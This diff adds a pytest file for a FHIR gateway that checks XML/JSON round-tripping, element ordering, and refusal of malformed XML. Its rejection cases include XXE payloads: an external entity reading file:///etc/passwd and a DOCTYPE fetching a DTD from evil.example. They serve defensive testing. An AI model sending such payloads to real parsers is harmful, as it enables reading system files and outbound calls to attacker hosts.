@@ -1,0 +1,120 @@
+"""FHIR XML <-> the JSON form (gateway.fhir.xml), against every vendored example."""
+
+from __future__ import annotations
+
+import gzip
+import json
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import pytest
+from lxml import etree  # type: ignore[import-untyped]
+
+from gateway.fhir import json as fjson
+from gateway.fhir import xml as fhir_xml
+from gateway.fhir.outcome import FhirError
+from gateway.fhir.validation import FhirValidator
+from gateway.fhir.validation.model import Model
+from gateway.main import profiles_dir, registry
+from gateway.settings import Settings
+
+DATA = Path(__file__).resolve().parent.parent / "data"
+F = "{http://hl7.org/fhir}"
+
+
+@pytest.fixture(scope="module")
+def model() -> Model:
+    reg = registry()
+    return FhirValidator.load(profiles_dir(), reg.structure_definitions,
+                              Settings.from_env()).model
+
+
+def _examples() -> list[tuple[str, str]]:
+    rows = []
+    for name in ("r4-examples.ndjson.gz", "ig-examples.ndjson.gz"):
+        with gzip.open(DATA / name, "rt", encoding="utf-8") as f:
+            rows += [(row["file"], row["text"]) for row in map(json.loads, f)]
+    return rows
+
+
+def _same(value: Any) -> Any:
+    """Decimals as written; narratives compared as XML (canonical form), not as text."""
+    if isinstance(value, dict):
+        return {k: etree.tostring(etree.fromstring(v.encode()), method="c14n")
+                if k == "div" and isinstance(v, str) else _same(v) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_same(v) for v in value]
+    return value
+
+
+def test_every_example_survives_json_to_xml_and_back(model: Model) -> None:
+    examples = _examples()
+    assert len(examples) > 1100
+    failures = []
+    for name, text in examples:
+        back = fhir_xml.loads(fhir_xml.dumps(text.encode(), model), model)
+        if _same(json.loads(fjson.dumps(back), parse_float=Decimal)) != \
+                _same(json.loads(text, parse_float=Decimal)):
+            failures.append(name)
+    assert not failures, failures[:10]
+
+
+def test_xml_follows_the_definitions(model: Model) -> None:
+    patient = {"gender": "female", "name": [{"given": ["Anna", None, "Eva"], "id": "n1",
+                                            "_given": [None, {"extension": [{
+                                                "url": "http://x/e", "valueBoolean": True}]},
+                                                       None],
+                                            "family": "Müller"}],
+               "birthDate": "1970-05-01", "_birthDate": {"id": "b"}, "active": True,
+               "resourceType": "Patient", "id": "p1",
+               "extension": [{"url": "http://x/w", "valueDecimal": fjson.Number("1.50")}],
+               "text": {"status": "generated",
+                        "div": '<div xmlns="http://www.w3.org/1999/xhtml"><p>Anna</p></div>'},
+               "contained": [{"resourceType": "Organization", "id": "o", "name": "X"}]}
+    root = etree.fromstring(fhir_xml.dumps(patient, model))
+    assert root.tag == F + "Patient"
+    # the definitions' order, whatever the JSON's
+    assert [c.tag.split("}")[1] for c in root] == [
+        "id", "text", "contained", "extension", "active", "name", "gender", "birthDate"]
+    assert root.find(F + "id").get("value") == "p1"
+    assert root.find(F + "text/{http://www.w3.org/1999/xhtml}div/"
+                          "{http://www.w3.org/1999/xhtml}p").text == "Anna"
+    assert root.find(F + "contained/" + F + "Organization/" + F + "name").get("value") == "X"
+    assert root.find(F + "extension").get("url") == "http://x/w"
+    assert root.find(F + "extension/" + F + "valueDecimal").get("value") == "1.50"
+    assert root.find(F + "active").get("value") == "true"
+    name = root.find(F + "name")
+    assert name.get("id") == "n1" and [c.tag.split("}")[1] for c in name] == [
+        "family", "given", "given", "given"]
+    given = name.findall(F + "given")
+    assert [g.get("value") for g in given] == ["Anna", None, "Eva"]
+    assert given[1].find(F + "extension").get("url") == "http://x/e"
+    assert root.find(F + "birthDate").get("id") == "b"
+    back = fhir_xml.loads(fhir_xml.dumps(patient, model), model)
+    assert back["extension"][0]["valueDecimal"].text == "1.50"
+    assert back["active"] is True and back["name"][0]["_given"][1]["extension"]
+    assert back["name"][0]["given"] == ["Anna", None, "Eva"]
+
+
+@pytest.mark.parametrize("body", [
+    b'<Patient xmlns="http://hl7.org/fhir"><foo value="1"/></Patient>',
+    b'<Patient xmlns="http://hl7.org/fhir"><active value="true" extra="1"/></Patient>',
+    b'<Patient xmlns="http://hl7.org/fhir"><active value="true"/><active value="false"/>'
+    b'</Patient>',
+    b'<Patient xmlns="http://hl7.org/fhir" id="x"/>',
+    b'<Patient xmlns="http://hl7.org/fhir">text</Patient>',
+    b'<Patient><active value="true"/></Patient>',
+    b'<Nonsense xmlns="http://hl7.org/fhir"/>',
+    b'<Patient xmlns="http://hl7.org/fhir"><contained/></Patient>',
+    b'<Patient xmlns="http://hl7.org/fhir"><name><url value="x"/></name></Patient>',
+    b'<!DOCTYPE Patient [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    b'<Patient xmlns="http://hl7.org/fhir"><id value="&x;"/></Patient>',
+    b'<!DOCTYPE Patient SYSTEM "http://evil.example/x.dtd"><Patient xmlns="http://hl7.org/fhir"/>',
+    b'<Patient xmlns="http://hl7.org/fhir"><id value="a"></Patient>',
+    b'<Patient xmlns="http://hl7.org/fhir"><id value="&undeclared;"/></Patient>',
+])
+def test_what_is_not_fhir_xml_is_refused(model: Model, body: bytes) -> None:
+    with pytest.raises(FhirError) as caught:
+        fhir_xml.loads(body, model)
+    assert caught.value.status == 400
